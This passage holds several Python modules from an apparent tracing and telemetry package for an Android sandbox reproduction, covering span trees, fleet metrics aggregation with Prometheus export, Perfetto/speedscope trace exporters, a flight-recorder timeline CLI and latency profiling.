            span_id=next(self._ids),
            parent_id=parent.span_id if parent is not None else None,
            name=name,
            attrs=attrs,
            device_id=self.device_id,
        )
        self._stack.append(span)
        return span

    def event(self, name: str, **attrs: Any) -> None:
        """A zero-duration span at the current stack position."""
        if not self.enabled:
            return
        with self.span(name, **attrs):
            pass

    def _finish(self, span: Span) -> None:
        # The stack discipline is enforced by the context-manager protocol;
        # remove the span wherever it is in case of unusual exits.
        if self._stack and self._stack[-1] is span:
            self._stack.pop()
        elif span in self._stack:  # pragma: no cover - defensive
            self._stack.remove(span)
        for sink in self._sinks:
            sink.on_span(span)
        for listener in self._listeners:
            listener(span)

    @property
    def current(self) -> Optional[Span]:
        return self._stack[-1] if self._stack else None

    # -- inspection ------------------------------------------------------

    def finished(self) -> List[Span]:
        """All finished spans currently in the ring buffer."""
        return self.ring.spans

    def trees(self) -> List["SpanNode"]:
        """Finished spans reassembled into trees, one per trace id."""
        return build_trees(self.finished())


class SpanNode:
    """A span plus its children — the reconstructed call tree."""

    __slots__ = ("span", "children")

    def __init__(self, span: Span) -> None:
        self.span = span
        self.children: List[SpanNode] = []

    @property
    def name(self) -> str:
        return self.span.name

    def walk(self):
        """Yield this node and all descendants (pre-order)."""
        yield self
        for child in self.children:
            yield from child.walk()

    def layers(self) -> set:
        """Every taxonomy layer present in this tree."""
        return {node.span.layer for node in self.walk()}

    def find(self, name: str) -> List["SpanNode"]:
        """All descendant nodes (inclusive) with the given span name."""
        return [node for node in self.walk() if node.span.name == name]

    def render(self, indent: int = 0) -> str:
        """Indented text rendering (debug / report aid)."""
        lines = [f"{'  ' * indent}{self.span.name} [{self.span.duration_ms:.3f}ms]"]
        for child in self.children:
            lines.append(child.render(indent + 1))
        return "\n".join(lines)


def build_trees(spans: List[Span]) -> List[SpanNode]:
    """Reassemble finished spans into root trees.

    Spans arrive children-first (they finish before their parents); a
    parent missing from ``spans`` (e.g. evicted from the ring, or still
    open) promotes its orphaned children to roots.
    """
    nodes = {span.span_id: SpanNode(span) for span in spans}
    roots: List[SpanNode] = []
    for span in spans:
        node = nodes[span.span_id]
        parent = nodes.get(span.parent_id) if span.parent_id is not None else None
        if parent is None:
            roots.append(node)
        else:
            parent.children.append(node)
    # Children finished before parents: re-sort each level by start time.
    for node in nodes.values():
        node.children.sort(key=lambda n: n.span.start)
    roots.sort(key=lambda n: n.span.start)
    return roots
