"""Fleet telemetry: aggregate many per-device ObsContexts into one plane.

The per-device refactor shards telemetry — each
:class:`~repro.obs.ObsContext` owns its tracer and metrics registry.
This module is the merge side: :class:`FleetTelemetry` re-combines
device shards into fleet-wide totals without ever touching a hot path
(aggregation reads immutable snapshots, so it can run while devices keep
recording).

Merge semantics follow the snapshot group algebra
(:class:`~repro.obs.metrics.MetricsSnapshot` under ``+``): counters sum,
gauges sum, histograms with identical boundaries merge bucket-wise. The
Prometheus exporter labels every series with ``device="..."`` under a
**cardinality cap** — beyond ``max_label_devices`` devices, the
remainder is merged into one ``device="_other"`` series so a large
fleet cannot explode the time-series count. Per-device
:class:`~repro.core.audit.AuditLog` violations interleave into a single
feed totally ordered by ``(seq, device_id)`` — deterministic because
``seq`` is monotone per device.

``fleet_health()`` renders a deterministic report: per-device span /
violation / sampled-out counts and the top-k ``lat.*`` histograms ranked
by observation count. Wall-clock latencies are excluded by default
(``verbose=True`` adds them) so the same workload under the same
sampling seed renders byte-identically — the property the regression
suite pins.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any, Dict, List, Optional, Tuple

from repro.errors import ReproError
from repro.obs.metrics import (
    MetricsSnapshot,
    _prom_name,
    _prom_number,
    _escape_help,
    format_labels,
)

__all__ = [
    "FleetTelemetry",
    "FleetHealthReport",
    "DeviceHealth",
    "OVERFLOW_DEVICE",
]

#: Label value the over-cap remainder is merged under.
OVERFLOW_DEVICE = "_other"


class FleetError(ReproError):
    """Misuse of the fleet aggregator (duplicate or unknown device)."""


@dataclass(frozen=True)
class DeviceHealth:
    """One device's row in the health report (counts only)."""

    device_id: str
    spans_started: int
    spans_sampled_out: int
    violations: int
    counter_total: int

    def to_dict(self) -> Dict[str, int]:
        return {
            "device_id": self.device_id,
            "spans_started": self.spans_started,
            "spans_sampled_out": self.spans_sampled_out,
            "violations": self.violations,
            "counter_total": self.counter_total,
        }


@dataclass(frozen=True)
class FleetHealthReport:
    """Deterministic fleet summary: device rows + top-k latency offenders.

    ``top_latencies`` ranks ``lat.*`` histograms by observation *count*
    (ties broken by name), not by recorded milliseconds — counts are a
    function of the workload and the sampling seed alone, so the default
    ``render()`` is byte-identical across runs of the same workload.
    """

    devices: Tuple[DeviceHealth, ...]
    #: (histogram name, observation count, mean ms) — mean only shown
    #: in verbose renders.
    top_latencies: Tuple[Tuple[str, int, float], ...] = ()

    @property
    def total_spans(self) -> int:
        return sum(d.spans_started for d in self.devices)

    @property
    def total_violations(self) -> int:
        return sum(d.violations for d in self.devices)

    def to_dict(self) -> Dict[str, Any]:
        return {
            "devices": [d.to_dict() for d in self.devices],
            "top_latencies": [
                {"name": name, "count": count} for name, count, _mean in self.top_latencies
            ],
            "total_spans": self.total_spans,
            "total_violations": self.total_violations,
        }

    def render(self, verbose: bool = False) -> str:
        """The report as text; ``verbose=True`` adds wall-clock means
        (non-deterministic — keep it out of golden comparisons)."""
        lines = [
            f"fleet: {len(self.devices)} device(s), "
            f"{self.total_spans} span(s), {self.total_violations} violation(s)"
        ]
        for dev in self.devices:
            lines.append(
                f"  {dev.device_id}: spans={dev.spans_started} "
                f"sampled_out={dev.spans_sampled_out} "
                f"violations={dev.violations} counters={dev.counter_total}"
            )
        if self.top_latencies:
            lines.append("top latency sites (by observation count):")
            for name, count, mean_ms in self.top_latencies:
                row = f"  {name}: n={count}"
                if verbose:
                    row += f" mean={mean_ms:.3f}ms"
                lines.append(row)
        return "\n".join(lines)


class FleetTelemetry:
    """Aggregates per-device observability shards.

    Register each device's context (and optionally its audit log); every
    read-side method then merges on demand. Registration order does not
    matter — all outputs sort by ``device_id``.
    """

    def __init__(self, max_label_devices: int = 32) -> None:
        if max_label_devices < 1:
            raise FleetError("max_label_devices must be >= 1")
        #: Cardinality cap for the labeled Prometheus export: at most
        #: this many ``device="..."`` label values; the rest fold into
        #: ``device="_other"``.
        self.max_label_devices = max_label_devices
        self._contexts: Dict[str, Any] = {}
        self._audit_logs: Dict[str, Any] = {}

    # -- registration ----------------------------------------------------

    def register(self, obs: Any, audit_log: Optional[Any] = None) -> None:
        """Add one device's context (and optionally its audit log)."""
        device_id = obs.device_id
        if device_id in self._contexts and self._contexts[device_id] is not obs:
            raise FleetError(f"device_id {device_id!r} already registered")
        self._contexts[device_id] = obs
        if audit_log is not None:
            self._audit_logs[device_id] = audit_log

    def register_device(self, device: Any) -> None:
        """Add a :class:`~repro.core.device.Device` (context + audit log)."""
        self.register(device.obs, audit_log=device.audit_log)

    def device_ids(self) -> List[str]:
        return sorted(self._contexts)

    def __len__(self) -> int:
        return len(self._contexts)

    # -- metrics ----------------------------------------------------------

    def per_device_metrics(self) -> Dict[str, MetricsSnapshot]:
        """Each device's registry snapshot, keyed by device_id."""
        return {
            device_id: self._contexts[device_id].metrics.snapshot()
            for device_id in self.device_ids()
        }

    def merged_metrics(self) -> MetricsSnapshot:
        """Fleet-wide totals: counter sums, same-boundary bucket merges."""
        merged = MetricsSnapshot()
        for snapshot in self.per_device_metrics().values():
            merged = merged + snapshot
        return merged

    # -- Prometheus export -------------------------------------------------

    def _labeled_shards(self) -> List[Tuple[str, MetricsSnapshot]]:
        """(label value, snapshot) pairs after applying the cardinality
        cap: the first ``max_label_devices`` devices (sorted) keep their
        own label; the remainder merges under ``_other``."""
        snapshots = self.per_device_metrics()
        ids = self.device_ids()
        shards = [(device_id, snapshots[device_id]) for device_id in ids[: self.max_label_devices]]
        overflow = ids[self.max_label_devices :]
        if overflow:
            folded = MetricsSnapshot()
            for device_id in overflow:
                folded = folded + snapshots[device_id]
            shards.append((OVERFLOW_DEVICE, folded))
        return shards

    def to_prometheus_text(self, help_text: Optional[Dict[str, str]] = None) -> str:
        """Device-labeled exposition text.

        Emits one ``# HELP``/``# TYPE`` header per metric family with all
        device series consecutive under it (the format requires family
        samples to be contiguous). The per-device series of any metric
        equal what that device would export in isolation with the same
        label attached — sharding is invisible to a scrape consumer.
        """
        help_text = help_text or {}
        shards = self._labeled_shards()
        lines: List[str] = []

        def header(raw_name: str, metric: str, kind: str) -> None:
            if raw_name in help_text:
                lines.append(f"# HELP {metric} {_escape_help(help_text[raw_name])}")
            lines.append(f"# TYPE {metric} {kind}")

        counter_names = sorted({n for _d, s in shards for n in s.counters})
        gauge_names = sorted({n for _d, s in shards for n in s.gauges})
        hist_names = sorted({n for _d, s in shards for n in s.histograms})
        for name in counter_names:
            metric = _prom_name(name) + "_total"
            header(name, metric, "counter")
            for device_id, snap in shards:
                if name not in snap.counters:
                    continue
                labels = format_labels({"device": device_id})
                lines.append(f"{metric}{labels} {snap.counters[name]}")
        for name in gauge_names:
            metric = _prom_name(name)
            header(name, metric, "gauge")
            for device_id, snap in shards:
                if name not in snap.gauges:
                    continue
                labels = format_labels({"device": device_id})
                lines.append(f"{metric}{labels} {_prom_number(snap.gauges[name])}")
        for name in hist_names:
            metric = _prom_name(name)
            header(name, metric, "histogram")
            for device_id, snap in shards:
                hist = snap.histograms.get(name)
                if hist is None:
                    continue
                device_labels = {"device": device_id}
                cumulative = 0
                for edge, bucket in zip(hist.boundaries, hist.counts):
                    cumulative += bucket
                    le = format_labels(device_labels, extra=("le", _prom_number(edge)))
                    lines.append(f"{metric}_bucket{le} {cumulative}")
                le = format_labels(device_labels, extra=("le", "+Inf"))
                lines.append(f"{metric}_bucket{le} {hist.count}")
                labels = format_labels(device_labels)
                lines.append(f"{metric}_sum{labels} {_prom_number(hist.total)}")
                lines.append(f"{metric}_count{labels} {hist.count}")
        return "\n".join(lines) + ("\n" if lines else "")

    # -- spans -------------------------------------------------------------

    def spans(self) -> List[Any]:
        """Every registered device's finished spans, in a deterministic
        merged order: ``(device_id, trace_id, span_id)``. Each span is
        already stamped with its ``device_id`` and ``trace_id``."""
        merged: List[Any] = []
        for device_id in self.device_ids():
            merged.extend(self._contexts[device_id].tracer.finished())
        merged.sort(key=lambda s: (s.device_id, s.trace_id, s.span_id))
        return merged

    # -- audit violations --------------------------------------------------

    def violations(self) -> List[Any]:
        """All registered audit logs' violation events as one feed,
        totally ordered by ``(seq, device_id)`` — a deterministic
        round-robin interleave of the per-device monotone sequences."""
        merged: List[Any] = []
        for device_id in sorted(self._audit_logs):
            merged.extend(self._audit_logs[device_id].violations())
        merged.sort(key=lambda e: (e.seq, e.device_id))
        return merged

    # -- health ------------------------------------------------------------

    def fleet_health(self, top_k: int = 5) -> FleetHealthReport:
        """Per-device counts plus the top-``k`` ``lat.*`` histograms by
        observation count over the merged registry."""
        rows: List[DeviceHealth] = []
        for device_id in self.device_ids():
            ctx = self._contexts[device_id]
            snapshot = ctx.metrics.snapshot()
            log = self._audit_logs.get(device_id)
            rows.append(
                DeviceHealth(
                    device_id=device_id,
                    spans_started=ctx.tracer.started,
                    spans_sampled_out=ctx.tracer.sampled_out,
                    violations=len(log.violations()) if log is not None else 0,
                    counter_total=sum(snapshot.counters.values()),
                )
            )
        merged = self.merged_metrics()
        offenders = [
            (name, hist.count, hist.mean)
            for name, hist in merged.histograms.items()
            if name.startswith("lat.") and hist.count > 0
        ]
        offenders.sort(key=lambda item: (-item[1], item[0]))
        return FleetHealthReport(
            devices=tuple(rows), top_latencies=tuple(offenders[:top_k])
        )
