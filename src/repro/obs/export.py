"""Trace exporters: Chrome/Perfetto trace-event JSON, folded stacks, and
speedscope flamegraphs.

The tracer records everything these formats need (``perf_counter`` start
and end per span, parent links, attrs); this module only reshapes. The
mapping for the Chrome trace-event format follows the Maxoid taxonomy:

- **pid** — one synthetic app uid per security context (the span's
  ``ctx`` attr, inherited from the nearest ancestor that has one).
  Android app uids start at 10000, so contexts are numbered from there;
  a process-name metadata event labels each pid with the context string
  (``com.adobe.reader^com.android.email``).
- **tid** — one thread row per taxonomy layer (``am``, ``zygote``,
  ``vfs``, ``aufs``, ``cow``, ...), labelled via thread-name metadata, so
  the Perfetto timeline shows a delegate invocation descending through
  the stack of layers.
- **args** — the span's attrs verbatim, plus its status.

Timestamps are normalized to microseconds since the earliest span in the
export (the trace-event format wants µs), and events are emitted in
``ts`` order. The resulting JSON opens directly in ``ui.perfetto.dev`` or
``chrome://tracing``.

Folded stacks (``root;child;leaf <self-µs>`` lines) feed classic
``flamegraph.pl``-style tooling; :func:`to_speedscope` emits the same
trees as a speedscope "evented" profile (https://www.speedscope.app).
"""

from __future__ import annotations

import json
from typing import Any, Dict, Iterable, List, Sequence, Union

from repro.obs.trace import Span, SpanNode, build_trees

__all__ = [
    "BASE_APP_UID",
    "to_chrome_trace",
    "write_chrome_trace",
    "to_folded_stacks",
    "write_folded_stacks",
    "to_speedscope",
    "write_speedscope",
]

#: First synthetic pid, mirroring Android's first app uid.
BASE_APP_UID = 10000

Treeish = Union[Iterable[Span], Sequence[SpanNode]]


def _as_trees(spans_or_trees: Treeish) -> List[SpanNode]:
    items = list(spans_or_trees)
    if items and isinstance(items[0], SpanNode):
        return items  # already reconstructed
    return build_trees(items)


def _walk_with_ctx(tree: SpanNode, inherited: str = ""):
    """Yield ``(node, ctx)`` pairs, inheriting ``ctx`` from ancestors."""
    ctx = str(tree.span.attrs.get("ctx") or inherited)
    yield tree, ctx
    for child in tree.children:
        yield from _walk_with_ctx(child, ctx)


def _origin(trees: Sequence[SpanNode]) -> float:
    starts = [node.span.start for tree in trees for node in tree.walk()]
    return min(starts) if starts else 0.0


def _us(seconds: float) -> float:
    return round(seconds * 1e6, 3)


# ----------------------------------------------------------------------
# Chrome trace-event / Perfetto JSON
# ----------------------------------------------------------------------


def to_chrome_trace(spans_or_trees: Treeish) -> Dict[str, Any]:
    """Export spans (or prebuilt trees) as a Chrome trace-event document.

    Returns the JSON-serializable dict; :func:`write_chrome_trace` dumps
    it to a file Perfetto can open.
    """
    trees = _as_trees(spans_or_trees)
    origin = _origin(trees)
    pids: Dict[str, int] = {}
    tids: Dict[str, int] = {}
    events: List[Dict[str, Any]] = []
    for tree in trees:
        for node, ctx in _walk_with_ctx(tree):
            span = node.span
            key = ctx or "(no ctx)"
            if key not in pids:
                pids[key] = BASE_APP_UID + len(pids)
            if span.layer not in tids:
                tids[span.layer] = 1 + len(tids)
            args = dict(span.attrs)
            args["status"] = span.status
            events.append(
                {
                    "name": span.name,
                    "cat": span.layer,
                    "ph": "X",
                    "ts": _us(span.start - origin),
                    "dur": _us(span.end - span.start),
                    "pid": pids[key],
                    "tid": tids[span.layer],
                    "args": args,
                }
            )
    events.sort(key=lambda event: (event["ts"], -event["dur"]))
    metadata: List[Dict[str, Any]] = []
    for ctx, pid in sorted(pids.items(), key=lambda kv: kv[1]):
        metadata.append(
            {
                "name": "process_name",
                "ph": "M",
                "pid": pid,
                "tid": 0,
                "args": {"name": ctx},
            }
        )
    for layer, tid in sorted(tids.items(), key=lambda kv: kv[1]):
        for pid in sorted(pids.values()):
            metadata.append(
                {
                    "name": "thread_name",
                    "ph": "M",
                    "pid": pid,
                    "tid": tid,
                    "args": {"name": layer},
                }
            )
    return {
        "traceEvents": metadata + events,
        "displayTimeUnit": "ms",
        "otherData": {"exporter": "repro.obs.export", "format": "maxoid-trace"},
    }


def write_chrome_trace(path: str, spans_or_trees: Treeish) -> Dict[str, Any]:
    """Write the Chrome trace-event JSON for ``spans_or_trees`` to ``path``."""
    document = to_chrome_trace(spans_or_trees)
    with open(path, "w", encoding="utf-8") as fh:
        json.dump(document, fh, indent=1, sort_keys=True, default=str)
        fh.write("\n")
    return document


# ----------------------------------------------------------------------
# Folded stacks (flamegraph.pl / speedscope import format)
# ----------------------------------------------------------------------


def to_folded_stacks(spans_or_trees: Treeish) -> List[str]:
    """Semicolon-folded stack lines weighted by *self* time in µs.

    Identical stacks across invocations merge (their self times sum), and
    zero-weight frames are dropped, matching what ``flamegraph.pl``
    expects. Lines come out sorted for deterministic golden files.
    """
    weights: Dict[str, float] = {}

    def fold(node: SpanNode, prefix: str) -> None:
        stack = f"{prefix};{node.span.name}" if prefix else node.span.name
        child_ms = sum(child.span.duration_ms for child in node.children)
        self_us = max(node.span.duration_ms - child_ms, 0.0) * 1000.0
        if self_us > 0.0:
            weights[stack] = weights.get(stack, 0.0) + self_us
        for child in node.children:
            fold(child, stack)

    for tree in _as_trees(spans_or_trees):
        fold(tree, "")
    return [
        f"{stack} {max(1, round(weight))}"
        for stack, weight in sorted(weights.items())
    ]


def write_folded_stacks(path: str, spans_or_trees: Treeish) -> List[str]:
    """Write folded-stack lines to ``path`` (one stack per line)."""
    lines = to_folded_stacks(spans_or_trees)
    with open(path, "w", encoding="utf-8") as fh:
        fh.write("\n".join(lines) + ("\n" if lines else ""))
    return lines


# ----------------------------------------------------------------------
# Speedscope (evented profile per invocation)
# ----------------------------------------------------------------------


def to_speedscope(spans_or_trees: Treeish, name: str = "maxoid trace") -> Dict[str, Any]:
    """Export as a speedscope file: one evented profile per root tree."""
    trees = _as_trees(spans_or_trees)
    origin = _origin(trees)
    frame_index: Dict[str, int] = {}
    frames: List[Dict[str, str]] = []

    def frame(span_name: str) -> int:
        index = frame_index.get(span_name)
        if index is None:
            index = frame_index[span_name] = len(frames)
            frames.append({"name": span_name})
        return index

    profiles: List[Dict[str, Any]] = []
    for tree in trees:
        events: List[Dict[str, Any]] = []

        def emit(node: SpanNode, lo: float, hi: float) -> None:
            # Clamp children into the parent interval so rounding can
            # never produce the unbalanced O/C pairs speedscope rejects.
            start = min(max(node.span.start, lo), hi)
            end = min(max(node.span.end, start), hi)
            index = frame(node.span.name)
            events.append({"type": "O", "frame": index, "at": _us(start - origin)})
            for child in node.children:
                emit(child, start, end)
            events.append({"type": "C", "frame": index, "at": _us(end - origin)})

        emit(tree, tree.span.start, tree.span.end)
        profiles.append(
            {
                "type": "evented",
                "name": tree.span.name,
                "unit": "microseconds",
                "startValue": _us(tree.span.start - origin),
                "endValue": _us(tree.span.end - origin),
                "events": events,
            }
        )
    return {
        "$schema": "https://www.speedscope.app/file-format-schema.json",
        "name": name,
        "shared": {"frames": frames},
        "profiles": profiles,
    }


def write_speedscope(
    path: str, spans_or_trees: Treeish, name: str = "maxoid trace"
) -> Dict[str, Any]:
    """Write the speedscope JSON for ``spans_or_trees`` to ``path``."""
    document = to_speedscope(spans_or_trees, name=name)
    with open(path, "w", encoding="utf-8") as fh:
        json.dump(document, fh, indent=1, sort_keys=True, default=str)
        fh.write("\n")
    return document
