"""The causal timeline: merge flight recordings into one fleet view.

A single device's black box is already causally ordered (monotonic seq +
virtual clock). A *fleet* postmortem needs the cross-device view: this
module merges any number of recordings — live :class:`~repro.obs.recorder.FlightRecorder`
rings, sealed :class:`~repro.obs.recorder.BlackBox` dumps, or dump files
on disk — into one stream totally ordered by ``(vclock, device_id,
seq)``. The virtual clock is shared (one reactor per process), so
cross-device causality under the scheduler is real; ties (and purely
sequential runs, where every vclock is 0) fall back to the per-device
order, which is deterministic by construction.

Renderers:

- **text** — one line per event, ``--around <device:seq> --window N``
  slices the neighbourhood of an anchor;
- **json** — the merged event list, machine-readable;
- **perfetto** — Chrome trace-event instant events (phase ``"i"``), one
  synthetic pid per device (numbered from
  :data:`~repro.obs.export.BASE_APP_UID`, matching the span exporter)
  and one thread row per plane, so a dump opens in ``ui.perfetto.dev``
  next to its span trace.

CLI::

    python -m repro.obs.timeline dump1.jsonl dump2.jsonl \
        --format text --around device0:42 --window 5
"""

from __future__ import annotations

import argparse
import json
import sys
from typing import Any, Dict, Iterable, List, Optional, Sequence, Tuple

from repro.obs.export import BASE_APP_UID
from repro.obs.recorder import BlackBox, Event, FlightRecorder

__all__ = [
    "main",
    "merge_events",
    "render_text",
    "slice_around",
    "timeline_json",
    "to_perfetto",
]


def _events_of(source: Any) -> List[Event]:
    if isinstance(source, BlackBox):
        return list(source.events)
    if isinstance(source, FlightRecorder):
        return source.events()
    return list(source)  # an iterable of Events


def merge_events(*sources: Any) -> List[Event]:
    """Merge recordings into one causal view, ordered by
    ``(vclock, device_id, seq)``."""
    merged: List[Event] = []
    for source in sources:
        merged.extend(_events_of(source))
    merged.sort(key=lambda e: (e.vclock, e.device_id, e.seq))
    return merged


def parse_anchor(text: str) -> Tuple[str, int]:
    """Parse an ``--around`` anchor: ``device_id:seq``."""
    device_id, sep, seq = text.rpartition(":")
    if not sep or not seq.isdigit():
        raise ValueError(f"anchor must be '<device_id>:<seq>', got {text!r}")
    return device_id, int(seq)


def slice_around(
    events: Sequence[Event], anchor: Tuple[str, int], window: int = 10
) -> List[Event]:
    """The ``window`` events on either side of the anchor event in the
    merged order (anchor included). Unknown anchors raise KeyError."""
    device_id, seq = anchor
    for index, event in enumerate(events):
        if event.device_id == device_id and event.seq == seq:
            lo = max(0, index - window)
            return list(events[lo : index + window + 1])
    raise KeyError(f"anchor {device_id}:{seq} not present in the merged timeline")


def render_text(
    events: Sequence[Event], anchor: Optional[Tuple[str, int]] = None
) -> str:
    """One line per event; the anchor (when given) is marked with ``>``."""
    lines = []
    for event in events:
        marker = (
            ">"
            if anchor is not None
            and (event.device_id, event.seq) == anchor
            else " "
        )
        lines.append(f"{marker} {event.render()}")
    return "\n".join(lines)


def timeline_json(events: Sequence[Event]) -> Dict[str, Any]:
    devices = sorted({event.device_id for event in events})
    return {
        "kind": "timeline",
        "devices": devices,
        "events": [event.to_dict() for event in events],
    }


def to_perfetto(events: Sequence[Event]) -> Dict[str, Any]:
    """The merged timeline as Chrome trace-event instant events.

    Timestamps are the virtual clock in microseconds (1 virtual ms =
    1000 µs); sequential recordings (vclock 0 throughout) fall back to
    the seq as the timestamp so the order is still visible.
    """
    pids: Dict[str, int] = {}
    tids: Dict[str, int] = {}
    out: List[Dict[str, Any]] = []
    any_clock = any(event.vclock for event in events)
    for event in events:
        if event.device_id not in pids:
            pids[event.device_id] = BASE_APP_UID + len(pids)
        if event.plane not in tids:
            tids[event.plane] = 1 + len(tids)
        ts = event.vclock * 1000.0 if any_clock else float(event.seq)
        args = dict(event.attrs)
        args["detail"] = event.detail
        args["seq"] = event.seq
        out.append(
            {
                "name": event.name,
                "cat": event.plane,
                "ph": "i",
                "s": "t",
                "ts": ts,
                "pid": pids[event.device_id],
                "tid": tids[event.plane],
                "args": args,
            }
        )
    metadata: List[Dict[str, Any]] = []
    for device_id, pid in sorted(pids.items(), key=lambda kv: kv[1]):
        metadata.append(
            {
                "name": "process_name",
                "ph": "M",
                "pid": pid,
                "args": {"name": device_id},
            }
        )
    for plane, tid in sorted(tids.items(), key=lambda kv: kv[1]):
        for pid in pids.values():
            metadata.append(
                {
                    "name": "thread_name",
                    "ph": "M",
                    "pid": pid,
                    "tid": tid,
                    "args": {"name": plane},
                }
            )
    return {"traceEvents": metadata + out, "displayTimeUnit": "ms"}


# ----------------------------------------------------------------------
# CLI
# ----------------------------------------------------------------------


def _parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        prog="python -m repro.obs.timeline",
        description="Merge flight-recorder dumps into one causal timeline.",
    )
    parser.add_argument(
        "dumps", nargs="+", help="black-box dump files (JSONL, see obs.artifacts)"
    )
    parser.add_argument("--format", choices=("text", "json", "perfetto"), default="text")
    parser.add_argument(
        "--around",
        default=None,
        metavar="DEVICE:SEQ",
        help="slice the timeline around this anchor event",
    )
    parser.add_argument(
        "--window", type=int, default=10, help="events either side of --around"
    )
    parser.add_argument("--out", default=None, help="write here instead of stdout")
    return parser


def main(argv: Optional[Sequence[str]] = None) -> int:
    from repro.obs.artifacts import load_blackbox

    args = _parser().parse_args(argv)
    try:
        boxes = [load_blackbox(path) for path in args.dumps]
    except (OSError, ValueError, KeyError) as error:
        print(f"error: cannot load dump: {error}", file=sys.stderr)
        return 2
    events = merge_events(*boxes)
    anchor: Optional[Tuple[str, int]] = None
    if args.around is not None:
        try:
            anchor = parse_anchor(args.around)
            events = slice_around(events, anchor, window=args.window)
        except (ValueError, KeyError) as error:
            print(f"error: {error}", file=sys.stderr)
            return 2
    if args.format == "text":
        header = [
            f"timeline: {len(events)} event(s) from "
            f"{len({e.device_id for e in events})} device(s)"
        ]
        for box in boxes:
            header.append(
                f"  dump: trigger={box.trigger} device={box.device_id} "
                f"anchor={box.anchor_seq} digest={box.events_digest()[:16]}"
            )
        rendered = "\n".join(header) + "\n" + render_text(events, anchor=anchor)
    elif args.format == "json":
        rendered = json.dumps(timeline_json(events), indent=2)
    else:
        rendered = json.dumps(to_perfetto(events), indent=2)
    if args.out is not None:
        with open(args.out, "w", encoding="utf-8") as sink:
            sink.write(rendered + "\n")
    else:
        print(rendered)
    return 0


if __name__ == "__main__":  # pragma: no cover
    raise SystemExit(main())
