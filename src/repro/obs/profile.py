"""Performance profiling over the span stream: latency histograms and
critical-path analysis.

Two pieces, both built on data the tracer already records:

- :class:`ProfileRecorder` — a tracer *listener* that folds every closing
  span's duration into a per-span-name latency histogram
  (``lat.vfs.open``, ``lat.aufs.copy_up``, ``lat.cow.query``, ...) in the
  metrics registry. It sits behind the ``OBS.profile`` sub-switch with
  the same contract as ``OBS.prov``: when off, no listener is registered
  and the instrumented hot paths run exactly the code they ran before
  this module existed — zero cost. With it on,
  :meth:`~repro.obs.metrics.HistogramSnapshot.quantile` gives p50/p95/p99
  per operation.

- :func:`critical_path` — given one reconstructed trace tree (a single
  delegate invocation: AM -> Zygote -> syscall -> Aufs -> COW), attribute
  the invocation's wall time to layers by *self time* and extract the hot
  chain: the root-to-leaf descent that always follows the most expensive
  child. The resulting :class:`CriticalPathReport` is what
  ``benchmarks/report_tables.py`` and the perf suite embed in
  ``BENCH_*.json`` artifacts, and what the Table 1 trace tests hold to
  the ">= 95% of wall time attributed" bar.

Self time is a span's duration minus its direct children's durations
(clamped at zero), so layer totals sum to the root's duration up to clock
granularity — the same accounting as :func:`repro.obs.report
.layer_self_times`, restricted to one tree.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, Iterable, List, Tuple

from repro.obs.metrics import DEFAULT_MS_BUCKETS, Metrics, MetricsSnapshot
from repro.obs.trace import Span, SpanNode

__all__ = [
    "SPAN_LATENCY_PREFIX",
    "ProfileRecorder",
    "CriticalPathStep",
    "CriticalPathReport",
    "critical_path",
    "critical_paths",
    "latency_summary",
]

#: Metric-name prefix for per-span-name latency histograms.
SPAN_LATENCY_PREFIX = "lat."


class ProfileRecorder:
    """Folds closing spans into per-span-name latency histograms.

    Registered on the tracer via ``Tracer.add_listener`` only while
    ``OBS.profile`` is armed; construction allocates nothing on any hot
    path.
    """

    __slots__ = ("metrics", "spans_seen")

    def __init__(self, metrics: Metrics) -> None:
        self.metrics = metrics
        self.spans_seen = 0

    def on_span(self, span: Span) -> None:
        self.spans_seen += 1
        self.metrics.observe(
            SPAN_LATENCY_PREFIX + span.name, span.duration_ms, DEFAULT_MS_BUCKETS
        )


def latency_summary(
    snapshot: MetricsSnapshot,
    quantiles: Tuple[float, ...] = (0.5, 0.95, 0.99),
) -> Dict[str, Dict[str, float]]:
    """Per-span-name latency quantiles from a metrics snapshot.

    Selects the ``lat.*`` histograms the :class:`ProfileRecorder` feeds
    and shapes them for artifacts/reports::

        {"vfs.open": {"count": 12, "mean_ms": 0.04, "p50_ms": ..., ...}}
    """
    summary: Dict[str, Dict[str, float]] = {}
    for name, hist in sorted(snapshot.histograms.items()):
        if not name.startswith(SPAN_LATENCY_PREFIX) or hist.count <= 0:
            continue
        row: Dict[str, float] = {
            "count": hist.count,
            "mean_ms": round(hist.mean, 6),
        }
        for q in quantiles:
            row[f"p{int(q * 100)}_ms"] = round(hist.quantile(q), 6)
        summary[name[len(SPAN_LATENCY_PREFIX):]] = row
    return summary


# ----------------------------------------------------------------------
# Critical-path analysis
# ----------------------------------------------------------------------


@dataclass(frozen=True)
class CriticalPathStep:
    """One span on the hot chain from root to leaf."""

    name: str
    layer: str
    duration_ms: float
    self_ms: float


@dataclass
class CriticalPathReport:
    """Where one invocation's wall time went.

    ``by_layer`` attributes the *whole tree's* self time to taxonomy
    layers (this is the part held to >= 95% coverage of the root's wall
    time); ``steps`` is the hot chain — the descent that follows the
    most expensive child at every level.
    """

    root: str
    total_ms: float
    steps: List[CriticalPathStep] = field(default_factory=list)
    by_layer: Dict[str, float] = field(default_factory=dict)

    @property
    def attributed_ms(self) -> float:
        """Self time attributed across layers (sums the whole tree)."""
        return sum(self.by_layer.values())

    @property
    def coverage(self) -> float:
        """Fraction of the root's wall time attributed to layers."""
        if self.total_ms <= 0.0:
            return 1.0
        return self.attributed_ms / self.total_ms

    @property
    def hot_chain_ms(self) -> float:
        """Self time accumulated along the hot chain only."""
        return sum(step.self_ms for step in self.steps)

    @property
    def hottest_layer(self) -> str:
        if not self.by_layer:
            return ""
        return max(self.by_layer, key=self.by_layer.get)

    def layer_fractions(self) -> Dict[str, float]:
        total = self.attributed_ms
        if total <= 0.0:
            return {layer: 0.0 for layer in self.by_layer}
        return {layer: ms / total for layer, ms in self.by_layer.items()}

    def to_dict(self) -> Dict[str, object]:
        return {
            "root": self.root,
            "total_ms": round(self.total_ms, 6),
            "attributed_ms": round(self.attributed_ms, 6),
            "coverage": round(self.coverage, 6),
            "hot_chain": [
                {
                    "name": step.name,
                    "layer": step.layer,
                    "duration_ms": round(step.duration_ms, 6),
                    "self_ms": round(step.self_ms, 6),
                }
                for step in self.steps
            ],
            "by_layer": {
                layer: round(ms, 6) for layer, ms in sorted(self.by_layer.items())
            },
        }

    def render(self) -> str:
        """Text rendering for benchmark output and debugging."""
        lines = [
            f"-- critical path: {self.root} "
